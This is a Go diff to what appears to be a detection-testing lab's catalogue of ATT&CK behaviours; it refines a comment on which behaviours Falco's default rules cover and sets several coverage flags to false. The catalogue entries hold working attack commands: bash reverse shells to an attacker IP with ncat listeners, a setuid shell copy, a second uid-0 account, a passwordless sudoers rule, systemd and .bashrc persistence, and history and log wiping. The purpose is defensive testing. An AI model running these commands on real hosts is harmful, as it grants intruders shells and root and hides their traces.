@@ -35,7 +35,13 @@ type Behaviour struct {
 	Title string `json:"title"`
 	// Class is the ATT&CK tactic it belongs to.
 	Class string `json:"class"`
-	// Falco says whether Falco's default (stable) rules claim it.
+	// Falco says whether Falco's default rules (the stable set of
+	// falcosecurity/rules, rules/falco_rules.yaml) claim it on a host,
+	// outside containers: Run shell untrusted (a shell below a web
+	// server), Read sensitive file untrusted, Clear Log Activities,
+	// Fileless execution via memfd_create, Execution from /dev/shm,
+	// PTRACE attached to process. Their netcat and redirected-stdin rules
+	// are for containers only.
 	Falco bool `json:"falco_default_rules"`
 	// Listen, when set, runs in the attacker's namespace, in the
 	// background, before the behaviour (a listener for a reverse shell).
@@ -111,7 +117,7 @@ func catalogue() []Behaviour {
 			Listen: "printf 'id\\nexit\\n' | timeout 15 ncat -l -p 4444", Needs: []string{"curl", "ncat"},
 			Attacker: web(fmt.Sprintf("setsid bash -c 'bash -i >& /dev/tcp/%s/4444 0>&1' >/dev/null 2>&1 &", atkIP)),
 			Expect:   []string{"shell-on-socket", "web-server-spawns-shell", "reverse-shell"}},
-		{ID: "user-reverse-shell", Title: "reverse shell of an ordinary user", Class: "execution", Falco: true,
+		{ID: "user-reverse-shell", Title: "reverse shell of an ordinary user", Class: "execution", Falco: false,
 			Listen: "printf 'id\\nexit\\n' | timeout 15 ncat -l -p 4445", Needs: []string{"ncat", "setpriv"},
 			Service: fmt.Sprintf("timeout 10 setpriv --reuid=65534 --regid=65534 --clear-groups bash -c 'bash -i >& /dev/tcp/%s/4445 0>&1' </dev/null >/dev/null 2>&1 || true", atkIP),
 			Expect:  []string{"shell-on-socket", "reverse-shell"}},
@@ -134,14 +140,14 @@ func catalogue() []Behaviour {
 			Service: "printf '[Service]\\nExecStart=/dev/shm/.x\\n' > /etc/systemd/system/lab.service", Writes: []string{"/etc/systemd/system"}, Expect: []string{"systemd-unit-modified"}},
 		{ID: "shell-rc", Title: "shell start-up file changed", Class: "persistence",
 			Service: "echo '/dev/shm/.x &' >> /root/.bashrc", Writes: []string{"/root"}, Expect: []string{"shell-rc-modified"}},
-		{ID: "setuid-shell", Title: "setuid copy of a shell made and used", Class: "privilege-escalation", Falco: true,
+		{ID: "setuid-shell", Title: "setuid copy of a shell made and used", Class: "privilege-escalation", Falco: false,
 			Service: "cp /bin/bash /dev/shm/.sh && chmod u+s /dev/shm/.sh && setpriv --reuid=65534 --regid=65534 --clear-groups /dev/shm/.sh -p -c id >/dev/null", Needs: []string{"setpriv"}, Writes: []string{"/dev/shm"},
 			Expect: []string{"setuid-file-made", "exec-from-writable-dir"}},
 		{ID: "uid0-account", Title: "second uid-0 account added", Class: "privilege-escalation",
 			Service: "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd", Writes: []string{"/etc/passwd"}, Expect: []string{"account-database-modified"}},
-		{ID: "sudoers", Title: "sudoers changed", Class: "privilege-escalation", Falco: true,
+		{ID: "sudoers", Title: "sudoers changed", Class: "privilege-escalation", Falco: false,
 			Service: "echo 'nobody ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/lab", Writes: []string{"/etc/sudoers.d"}, Expect: []string{"sudoers-modified"}},
-		{ID: "clear-history", Title: "shell history cleared", Class: "defense-evasion", Falco: true,
+		{ID: "clear-history", Title: "shell history cleared", Class: "defense-evasion", Falco: false,
 			Service: "echo ls > /root/.bash_history && : > /root/.bash_history", Writes: []string{"/root"}, Expect: []string{"history-cleared"}},
 		{ID: "clear-log", Title: "a log cleared", Class: "defense-evasion", Falco: true,
 			Service: "echo entry > /var/log/auth.log && truncate -s 0 /var/log/auth.log", Writes: []string{"/var/log"}, Expect: []string{"log-cleared"}},
